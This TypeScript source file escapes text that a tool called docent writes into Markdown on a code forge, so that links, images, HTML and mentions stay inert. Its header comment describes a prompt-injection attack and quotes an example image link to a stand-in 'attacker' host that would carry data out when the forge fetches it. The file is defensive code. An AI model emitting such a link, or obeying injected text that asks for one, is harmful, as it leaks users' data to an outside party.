// Reader and model text that docent writes into Markdown on a forge (pull-request bodies and answers, gap-check
// comments): shown as typed, never a link, an image, HTML or a mention, so a prompt injection cannot make docent post
// `![](https://attacker/?d=…)` for the forge to fetch, or a link a reviewer trusts because docent wrote it.
import { withoutMentions } from './mentions';

/** Escapes what would turn text into a link, an image, HTML or a mention; the words stay as they were typed. */
export function inertMarkdown(text: string): string {
  return withoutMentions(
    text
      // A backslash first, so the escapes below cannot be undone by one the text brings.
      .replace(/[\\[\]<>]/g, (c) => `\\${c}`)
      // Bare URLs and www. addresses, which the forge would link on its own.
      .replace(/:\/\//g, ':\u200b//')
      .replace(/\bwww\./gi, (w) => `${w.slice(0, 3)}\u200b.`),
  );
}

/** Inert text in a table cell: one line, and a pipe or backtick of its own neither ends the cell nor opens code. */
export function inertTableCell(text: string): string {
  return inertMarkdown(text)
    .replace(/[|`]/g, (c) => `\\${c}`)
    .replace(/\s+/g, ' ')
    .trim();
}
